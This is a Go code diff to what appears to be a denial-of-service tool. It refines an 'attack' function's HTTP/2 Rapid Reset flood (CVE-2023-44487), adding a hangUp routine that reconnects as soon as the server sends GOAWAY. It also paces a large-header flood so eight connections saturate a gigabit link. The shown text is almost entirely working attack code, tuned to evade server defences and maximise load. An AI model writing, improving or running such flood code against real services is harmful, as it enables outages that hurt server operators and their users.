@@ -41,7 +41,8 @@ func attack(name, to string, length time.Duration) string {
 		})
 	case loads[2]:
 		crowd(8, func() {
-			for time.Now().Before(until) {
+			for next := time.Now(); time.Now().Before(until); next = next.Add(perBigHead) {
+				time.Sleep(time.Until(next))
 				bigHead(to)
 				n.Add(1)
 			}
@@ -93,14 +94,14 @@ func slowHead(to string, until time.Time) {
 }
 
 // reset opens streams and takes each back at once, on one connection after
-// another (CVE-2023-44487).
+// another (CVE-2023-44487): it does not wait to be cut.
 func reset(to string, until time.Time, n *atomic.Int64) {
 	c := dial(to, until)
 	if c == nil {
 		return
 	}
 	defer c.Close()
-	go func() { _, _ = io.Copy(io.Discard, c) }()
+	go hangUp(c)
 	w := bufio.NewWriter(c)
 	_, _ = w.WriteString(http2.ClientPreface)
 	framer := http2.NewFramer(w, nil)
@@ -119,6 +120,24 @@ func reset(to string, until time.Time, n *atomic.Int64) {
 		n.Add(1)
 	}
 }
+
+// hangUp ends a connection as soon as it is told to go, to come again.
+func hangUp(c net.Conn) {
+	defer c.Close()
+	for in := http2.NewFramer(nil, c); ; {
+		frame, err := in.ReadFrame()
+		if err != nil {
+			return
+		}
+		if _, is := frame.(*http2.GoAwayFrame); is {
+			return
+		}
+	}
+}
+
+// perBigHead is how often each of 8 connections comes, to send what a line of
+// one gigabit a second carries. More is a matter of the machine's own memory.
+const perBigHead = 8 * time.Second / 120
 
 var megabyte = strings.Repeat("x", 1<<20)
 
